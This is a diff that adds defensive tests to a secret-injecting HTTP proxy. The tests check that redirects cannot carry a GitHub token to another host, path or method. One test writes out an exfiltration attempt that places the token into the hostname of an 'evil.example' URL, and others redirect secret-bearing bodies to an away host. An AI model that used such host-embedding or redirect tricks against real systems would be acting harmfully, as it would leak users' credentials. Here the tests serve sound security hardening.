@@ -119,6 +119,44 @@ describe('a redirect', () => {
     expect(head.headers).toContainEqual(['location', '/?stolen=[redacted]']);
   });
 
+  it('cannot carry a value away in its host, which loses its capitals on the way', async () => {
+    const loud = grantFor([home.host], { secrets: { GH_TOKEN: bindTo([home.host]) } });
+    const seal = new Seal(
+      { [PLACEHOLDER]: 'GH_TOKEN' },
+      loud,
+      new MemoryStore({ GH_TOKEN: 'GHP_LOUDVALUE' }),
+      NO_MINTER,
+    );
+    const to = via('https://{token}.evil.example/');
+    const error = await ways.call(loud, to, { headers: [['x-token', PLACEHOLDER]], seal }).catch((error) => error);
+    expect(error).toMatchObject({ code: 'secret.misplaced' });
+    expect(error.message.toLowerCase()).not.toContain('loudvalue');
+  });
+
+  it.each([
+    ['another host', () => `${away.url}/`, {}],
+    ['another path', () => '/admin', { pathPrefixes: ['/api'] }],
+  ])('cannot carry a body with a secret to %s', async (_where, to, change) => {
+    const inBody = grantFor([home.host, away.host], {
+      secrets: { GH_TOKEN: bindTo([home.host], { slots: ['body'], ...change }) },
+    });
+    const body = Buffer.from(JSON.stringify({ token: PLACEHOLDER }));
+    const asked = { method: 'POST', body, headers: [['content-type', 'application/json']] as Headers };
+    const address = `${home.url}/api?status=307&to=${encodeURIComponent(to())}`;
+    expect(await ways.outcome(inBody, address, asked)).toBe('secret.misplaced');
+    expect(home.hits).toHaveLength(1);
+    expect(away.hits).toEqual([]);
+  });
+
+  it('cannot turn a method into one that the binding does not name', async () => {
+    const posts = grantFor([home.host], { secrets: { GH_TOKEN: bindTo([home.host], { methods: ['POST'] }) } });
+    await ways.call(posts, via('/there', 303), { method: 'POST', headers: [['x-token', PLACEHOLDER]] });
+    expect(home.hits.map(({ method, headers }) => [method, headers['x-token']])).toEqual([
+      ['POST', 'ghp_realvalue123'],
+      ['GET', undefined],
+    ]);
+  });
+
   it.each([
     [301, 'POST', 'GET'],
     [302, 'POST', 'GET'],
